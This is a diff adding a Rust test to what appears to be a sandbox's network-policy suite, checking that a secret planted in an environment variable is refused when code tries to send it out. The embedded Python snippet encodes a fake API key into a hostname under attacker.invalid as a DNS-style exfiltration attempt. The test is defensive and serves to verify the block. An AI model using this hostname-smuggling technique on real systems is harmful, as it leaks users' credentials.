@@ -579,3 +579,26 @@ fn a_cell_that_nobody_was_asked_about_reaches_no_listed_host_that_it_does_not_na
         assert_eq!(told.of_kind("host_refused").len(), usize::from(asks));
     }
 }
+
+/// Everything may be reached, and a name that holds a secret is not even resolved.
+#[test]
+fn a_name_with_a_secret_in_it_goes_nowhere() {
+    for network in [&["--network", "open"][..], &["--allow-host", "*.attacker.invalid"]] {
+        let scene = Scene::new().variable("OPENAI_API_KEY", "swordfish-ab12-cdef");
+        let code = "import urllib.request as r\n\
+            for host in ('SWORD' + 'fish-ab12-cdef.attacker.invalid', 'plain.attacker.invalid'):\n\
+            \x20 try: r.urlopen('http://' + host + '/')\n\
+            \x20 except Exception as e: print(e.code, e.read().decode())";
+        let seen = scene.run(&[&["run"], network, &["-l", "python", "-c", code]].concat());
+        let said = "the value of `OPENAI_API_KEY` stands in its name";
+        let seen = seen.mentions(said).mentions("403 ");
+        // The control is let through, and leads nowhere.
+        let seen = seen.mentions("502 ").lacks("swordfish-ab12");
+        drop(seen);
+        let recorded = scene.run(&["history", "show", "--json"]).lacks("swordfish-ab12");
+        let effects = recorded.of_kind("effects");
+        let contacts = effects[0]["network"].as_array().unwrap();
+        let refused = contacts.iter().find(|one| one["why"].to_string().contains(said));
+        assert_eq!(refused.unwrap()["verdict"], "refused", "{contacts:?}");
+    }
+}
